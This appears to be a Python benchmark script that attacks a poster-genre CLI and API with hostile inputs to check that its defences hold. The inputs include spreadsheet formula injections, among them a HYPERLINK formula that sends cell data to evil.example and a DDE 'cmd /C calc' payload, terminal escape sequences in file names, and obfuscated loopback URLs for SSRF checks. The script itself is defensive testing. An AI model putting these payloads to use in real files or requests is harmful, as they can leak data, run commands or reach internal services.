"""The CLI and Python API under the attacks of issue 20: spreadsheet formulas, huge local files, terminal escapes,
private URLs, an offline fetch, kill -9 mid-write, palette posters and odd match words.

Every attack runs against the real `postergenre` command (a subprocess: real stdout/stderr bytes) or the Python API,
on a tiny home built from the shared posters and a real HTTP server on 127.0.0.1. Prints, per attack, how many
variants were tried and how many held, and writes benchmarks/results/abuse_cli.json.

    .venv/bin/python benchmarks/abuse_cli.py [--shared ../shared/data]
"""

from __future__ import annotations

import argparse
import csv
import functools
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from results_file import write_result

REPO = Path(__file__).resolve().parents[1]
CLI = str(Path(sys.executable).parent / "postergenre")
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd",
            "=1+1", "@x"]
PALETTE_POSTERS = ["tt0817225", "tt1275778", "tt0134770", "tt1594534", "tt1911658", "tt2363518", "tt1270262",
                   "tt0116640", "tt0464038"]  # shared posters whose 64-colour copies the old check flagged
_RAW_CONTROL = re.compile(rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]")


def run(*args, home: Path | None = None, timeout: float = 300, **kw) -> subprocess.CompletedProcess:
    env = {**os.environ, "COLUMNS": "200", **({"POSTERGENRE_HOME": str(home)} if home else {})}
    return subprocess.run([CLI, *map(str, args)], capture_output=True, env=env, timeout=timeout, **kw)


def tiny_home(work: Path, shared: Path) -> Path:
    """Six shared films with agency-style titles (formulas, an escape sequence), attached and embedded."""
    with open(shared / "movies.csv", newline="", encoding="utf-8") as f:
        rows = [r for r in csv.DictReader(f) if r["poster"]][2000:2006]
    titles = FORMULAS[:4] + ["\x1b[2JClear", "Plain"]
    posters = work / "posters"
    posters.mkdir()
    with open(work / "agency.csv", "w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        for row, title in zip(rows, titles):
            (posters / Path(row["poster"]).name).symlink_to(shared / row["poster"])
            writer.writerow({**row, "title": title, "poster": ""})
    home = work / "home"
    for args in (("catalog", "import", work / "agency.csv"), ("posters", "attach", posters), ("embed",)):
        done = run(*args, home=home)
        assert done.returncode == 0, done.stderr
    return home


def csv_cells(out: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(out.decode())) for cell in row[:-1]]


def attack_csv(work: Path, home: Path, posters: list[Path]) -> dict:
    listing = work / "ids.csv"
    listing.write_text("id,poster\n" + "".join(f'"{f.replace(chr(34), 2 * chr(34))}",{posters[0]}\n' for f in FORMULAS))
    cells = csv_cells(run("predict", listing, "--format", "csv").stdout)[1:]
    for name in ("=cmd.jpg", "@cmd.jpg", "+cmd.jpg"):
        (work / name).write_bytes(posters[1].read_bytes())
    cells += csv_cells(run("compare", "=cmd.jpg", "@cmd.jpg", "+cmd.jpg", "--target", "Drama", "--format", "csv",
                           cwd=work).stdout)
    cells += csv_cells(run("similar", posters[2], "--k", "6", "--format", "csv", home=home).stdout)
    dangerous = [c for c in cells if c.lstrip("'").startswith(("=", "+", "-", "@"))]
    return {"tried": len(dangerous), "held": sum(c.startswith("'") for c in dangerous)}


_MEASURE = """
import json, resource, sys, time
from postergenre import Predictor
p = Predictor.load()
t = time.perf_counter()
r = p.predict_many(sys.argv[1:])
print(json.dumps({"s": time.perf_counter() - t, "rss_mb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024,
                  "errors": [x.error if not x.ok else None for x in r]}))
"""


def attack_big_files(work: Path, posters: list[Path]) -> dict:
    zeros, headed, fifo = work / "huge.jpg", work / "headed.jpg", work / "pipe.jpg"
    with open(zeros, "wb") as f:
        f.truncate(3 * 1024**3)
    with open(headed, "wb") as f:
        f.write(posters[0].read_bytes()[:4096])
        f.truncate(3 * 1024**3)
    os.mkfifo(fifo)
    done = subprocess.run([sys.executable, "-c", _MEASURE, str(zeros), str(headed), str(fifo), str(posters[0])],
                          capture_output=True, text=True, timeout=300)
    report = json.loads(done.stdout)
    errors = report["errors"]
    held = [bool(errors[0] and "huge.jpg" in errors[0] and "not an image" in errors[0]),
            bool(errors[1] and "headed.jpg" in errors[1] and "too large" in errors[1]),
            bool(errors[2] and "not a regular file" in errors[2]), errors[3] is None]
    bounded = report["s"] < 10 and report["rss_mb"] < 1000
    return {"tried": 4, "held": sum(held) if bounded else 0, "seconds": round(report["s"], 2),
            "max_rss_mb": round(report["rss_mb"])}


def attack_escapes(work: Path, home: Path, posters: list[Path]) -> dict:
    evil = work / "x\x1b[2J\x1b]0;pwned\x07.jpg"
    evil.write_text("not an image")
    listing = work / "esc.csv"
    listing.write_text(f"id,poster\n\x1b[31mred\x9b1m,{posters[0]}\nnone\x1b[2J,\n", encoding="utf-8")
    header = work / "header.csv"
    header.write_text("\x1b[2Jimdb_id,\x1b]0;pwned\x07title\n1,2\n", encoding="utf-8")
    image = work / "ok.jpg"
    image.write_bytes(posters[0].read_bytes())
    outputs = [run("predict", evil, listing), run("catalog", "import", header, home=work / "h1"),
               run("catalog", "import", image, home=work / "h2"), run("similar", posters[2], "--k", "6", home=home)]
    return {"tried": len(outputs), "held": sum(not _RAW_CONTROL.search(o.stdout + o.stderr) for o in outputs)}


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass


def attack_private_urls(work: Path, posters: list[Path]) -> dict:
    root = work / "www"
    root.mkdir()
    (root / "ok.jpg").write_bytes(posters[0].read_bytes())
    server = ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Quiet, directory=str(root)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    spellings = [f"http://{h}:{port}/ok.jpg" for h in ("127.0.0.1", "localhost", "127.1", "2130706433", "0x7f000001",
                                                          "[::ffff:127.0.0.1]", "0.0.0.0")]
    listing = work / "urls.csv"
    listing.write_text("id,poster\n" + "".join(f"u{i},{u}\n" for i, u in enumerate(spellings)))
    try:
        rows = json.loads(run("predict", *spellings, listing, "--format", "json").stdout)
        held = sum("error" in r for r in rows)
        tried = len(rows)
        from postergenre import Predictor

        predictor = Predictor.load()
        for url in spellings:
            tried += 1
            try:
                predictor.predict(url)
            except Exception:
                held += 1
        opt_in = json.loads(run("predict", spellings[0], "--format", "json", "--allow-private-urls").stdout)
        return {"tried": tried, "held": held, "opt_in_works": "error" not in opt_in[0]}
    finally:
        server.shutdown()


def attack_offline_fetch(work: Path) -> dict:
    from postergenre.catalog.records import MovieRecord
    from postergenre.catalog.store import Catalog

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    results = []
    for name, url, extra in (("refused", f"http://127.0.0.1:{port}/p{{}}.jpg", ["--allow-private-urls"]),
                             ("dns", "http://p{}.invalid/p.jpg", [])):
        home = work / f"fetch-{name}"
        with Catalog(home / "catalog.sqlite") as catalog:
            catalog.upsert_movies([MovieRecord(f"tt{n:07d}", title=str(n), poster_url=url.format(n))
                                   for n in range(3050)])
        start = time.monotonic()
        done = run("posters", "fetch", "--home", home, *extra)
        seconds = time.monotonic() - start
        results.append({"attack": name, "exit": done.returncode, "seconds": round(seconds, 1),
                        "held": done.returncode == 1 and b"stopped:" in done.stderr and seconds < 60})
    return {"tried": len(results), "held": sum(r["held"] for r in results), "runs": results}


_SLOW = """
import sys, time
from pathlib import Path
import postergenre.predict.catalog_predictions as cp
marker = Path(sys.argv[1])
cp.CHUNK_MOVIES = 1
real = cp._chunk_table
def slow(*a, **k):
    marker.touch()
    time.sleep(0.5)
    return real(*a, **k)
cp._chunk_table = slow
sys.argv = ["postergenre", "predict-catalog", "--out", sys.argv[2], "--home", sys.argv[3]]
from postergenre.cli import main
main()
"""


def attack_kill_and_parquet(work: Path, home: Path) -> dict:
    out_dir = work / "bi"
    out_dir.mkdir()
    marker = work / "writing"
    proc = subprocess.Popen([sys.executable, "-c", _SLOW, str(marker), str(out_dir / "genres.parquet"), str(home)],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while not marker.exists() and proc.poll() is None:
        time.sleep(0.05)
    time.sleep(0.7)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    killed_clean = proc.returncode == -signal.SIGKILL and not os.listdir(out_dir)
    parquet = run("predict-catalog", "--out", out_dir / "genres.parquet", home=home).returncode == 0
    return {"tried": 2, "held": int(killed_clean) + int(parquet), "kill_left": sorted(os.listdir(out_dir))}


def attack_words_and_palette(home: Path, shared: Path) -> dict:
    import numpy as np
    from PIL import Image

    from postergenre import Predictor

    predictor = Predictor.load()
    held = tried = 0
    for imdb in PALETTE_POSTERS:
        path = shared / "posters" / f"{imdb}.jpg"
        if path.is_file():
            tried += 1
            held += predictor.predict(Image.open(path).convert("RGB").quantize(64).convert("RGB")).poster_check["is_poster"]
    noise = Image.fromarray(np.random.default_rng(0).integers(0, 256, (600, 400, 3), dtype=np.uint8))
    words = [t.match for t in predictor.similar(noise, k=3, home=home)]
    tried, held = tried + 2, held + (words == ["loose"] * 3) + (predictor.similarity(home).scale.words(0.34) == "loose")
    return {"tried": tried, "held": int(held)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--shared", type=Path, default=REPO.parent / "shared" / "data")
    parser.add_argument("--out", type=Path, default=REPO / "benchmarks" / "results" / "abuse_cli.json")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="abuse-cli-") as tmp:
        work = Path(tmp)
        os.environ["POSTERGENRE_HOME"] = str(work / "default-home")
        home = tiny_home(work, args.shared)
        posters = sorted((args.shared / "posters").glob("tt00*.jpg"))[:3]
        attacks = {
            "1 formula cells in CSV (predict, compare, similar)": lambda: attack_csv(work, home, posters),
            "2+7 predict-catalog Parquet after set-up; kill -9 mid-write": lambda: attack_kill_and_parquet(work, home),
            "3 3 GB sparse .jpg, 3 GB JPEG-headed, FIFO (+1 good file)": lambda: attack_big_files(work, posters),
            "4 terminal escapes (names, ids, headers, titles, a JPEG as catalog)": lambda: attack_escapes(work, home, posters),
            "5 private URL spellings (CLI args, CSV rows, Predictor)": lambda: attack_private_urls(work, posters),
            "6 offline fetch of 3,050 URLs (refused, DNS)": lambda: attack_offline_fetch(work),
            "8 palette posters; noise / tiny-catalog match words": lambda: attack_words_and_palette(home, args.shared),
        }
        results = {}
        for name, attack in attacks.items():
            start = time.monotonic()
            results[name] = {**attack(), "wall_s": round(time.monotonic() - start, 1)}
            r = results[name]
            print(f"{name:72s} tried {r['tried']:3d}  held {r['held']:3d}", flush=True)
    tried = sum(r["tried"] for r in results.values())
    held = sum(r["held"] for r in results.values())
    print(f"{'all':72s} tried {tried:3d}  held {held:3d}")
    write_result(args.out, {"tried": tried, "held": held, "attacks": results})


if __name__ == "__main__":
    main()
